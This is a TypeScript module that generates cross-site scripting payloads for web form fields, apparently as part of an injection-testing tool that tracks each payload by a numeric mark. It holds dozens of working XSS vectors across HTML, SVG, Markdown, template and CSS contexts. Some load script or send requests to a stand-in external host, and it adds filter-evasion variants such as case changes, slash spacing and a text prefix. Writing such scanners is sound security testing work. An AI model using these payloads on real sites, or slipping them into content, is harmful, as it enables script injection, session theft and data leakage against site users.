/** What a text calls when a page lets it run; short, since the shortest field has twenty characters. */
export const alarm = 't';
/** Where a text sends what it learns. */
const away = 'https://away.example';

type Make = (n: number) => string;

const run = (n: number): string => `${alarm}(${n})`;

/** Texts that run where a page takes them for markup. */
const markup: readonly Make[] = [
  (n) => `<script>${run(n)}</script>`,
  (n) => `"><script src="${away}/${n}.js"></script>`,
  (n) => `<img src=x onerror=${run(n)}>`,
  (n) => `'"><img src="${away}/${n}.png" onload="${run(n)}">`,
  (n) => `<svg onload=${run(n)}>`,
  (n) => `<svg><animate onbegin=${run(n)} attributeName=x dur=1s>`,
  (n) => `<svg><script href="${away}/${n}.js"/></svg>`,
  (n) => `<iframe srcdoc="<script>parent.${run(n)}</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.${run(n)}"></iframe>`,
  (n) => `<object data="${away}/${n}"></object>`,
  (n) => `<embed src="javascript:${run(n)}">`,
  (n) => `<body onload=${run(n)}>`,
  (n) => `<input autofocus onfocus=${run(n)}>`,
  (n) => `<details open ontoggle=${run(n)}>x</details>`,
  (n) => `<video><source onerror=${run(n)}></video>`,
  (n) => `<audio src="${away}/${n}" onerror=${run(n)}></audio>`,
  (n) => `<style>@import '${away}/${n}.css';</style>`,
  (n) => `<link rel=stylesheet href="${away}/${n}.css">`,
  (n) => `<link rel=prefetch href="${away}/${n}">`,
  (n) => `<div style="background:url(${away}/${n})">x</div>`,
  (n) => `<meta http-equiv=refresh content="0;url=${away}/${n}">`,
  (n) => `<base href="${away}/${n}/">`,
  (n) => `<form action="${away}/${n}"><button autofocus>x</button></form>`,
  (n) => `<a href="javascript:${run(n)}" id=x>x</a>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${run(n)}>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>">`,
  (n) => `<template><img src=x onerror=${run(n)}></template>`,
  (n) => `</textarea></title><img src=x onerror=${run(n)}>`,
  (n) => `--><img src=x onerror=${run(n)}><!--`,
  (n) => `<marquee onstart=${run(n)}>x</marquee>`,
  (n) => `<x onanimationstart=${run(n)} style="animation:x 1s">`,
  (n) => `&lt;img src=x onerror=${run(n)}&gt;`,
  (n) => `\\u003cimg src=x onerror=${run(n)}\\u003e`,
  (n) => `<img srcset="${away}/${n}.png 1x">`,
  (n) => `<picture><source srcset="${away}/${n}.png"><img></picture>`,
  (n) => `<use href="data:image/svg+xml,<svg onload=${run(n)}>">`,
];

/** Texts that run where a page takes them for Markdown, an address, a template or a style. */
const others: readonly Make[] = [
  (n) => `[read](javascript:${run(n)})`,
  (n) => `[read](JaVaScRiPt:${run(n)} "x")`,
  (n) => `[read](data:text/html,<script>${run(n)}</script>)`,
  (n) => `![x](${away}/${n}.png)`,
  (n) => `![x](x "onerror=${run(n)}")`,
  (n) => `![x" onerror="${run(n)}](x)`,
  (n) => `<javascript:${run(n)}>`,
  (n) => `[x]: javascript:${run(n)} [x]`,
  (n) => `javascript:${run(n)}`,
  (n) => `${away}/${n}"onmouseover="${run(n)}`,
  (n) => `{{constructor.constructor('${run(n)}')()}}`,
  (n) => '${' + run(n) + '}',
  (n) => `');${run(n)};//`,
  (n) => `";${run(n)};//`,
  (n) => `url(${away}/${n})`,
  (n) => `\`\`\`html <img src=x onerror=${run(n)}>`,
  (n) => `| <img src=x onerror=${run(n)}> | x |`,
  (n) => `~~<svg/onload=${run(n)}>~~`,
];

const kinds = [...markup, ...others];

/** How a kind is varied: as it is, in capitals, with odd spaces, behind words, and within Markdown. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<\/?[a-z]+/g, (tag) => tag.toUpperCase()),
  (text) => `**Done.** ${text}`,
  (text) => text.replace(/ on/g, '/on').replace(/=x/g, "='x'"),
];

/** Where a field wants an address: one without a name, since the hub looks names up. */
const host = 'https://93.184.216.34';

/** How many texts every field gets. */
export const textCount = 200;

/** What a field takes. */
export interface Room {
  /** In characters. */
  readonly longest: number;
  readonly pattern?: RegExp | undefined;
}

/**
 * One of the texts, of one line, as a field takes it: a kind that is too long makes room for the next one that fits, and a
 * field without spaces gets it without them. Where it is run it calls `alarm` with the mark, or another origin.
 *
 * @param at from 0 to `textCount`
 * @param mark a number by which a page that shows the text tells where it came from
 */
export function makeText(at: number, mark: number, { longest, pattern }: Room): string | undefined {
  for (let more = 0; more < kinds.length; more += 1) {
    const kind = kinds[(at + more) % kinds.length] as Make;
    const disguise = disguises[Math.floor(at / kinds.length) % disguises.length] as (text: string) => string;
    for (const text of [disguise(kind(mark)), kind(mark)]) {
      const joined = text.replace(/ /g, '/');
      const forms = [text, joined, `${host}/${joined}`];
      const fits = forms.find((form) => form.length <= longest && pattern?.test(form) !== false);
      if (fits !== undefined) return fits;
    }
  }
  return undefined;
}

/** The marks of all texts that stand in something. */
export function findMarks(told: string): number[] {
  return [...told.matchAll(markPattern)].map(([, first, second]) => Number(first ?? second));
}

/** Finds what `makeText` writes a mark into, whatever case it is in. */
export const markPattern = /\bt\((\d+)\)|away\.example\/(\d+)/g;
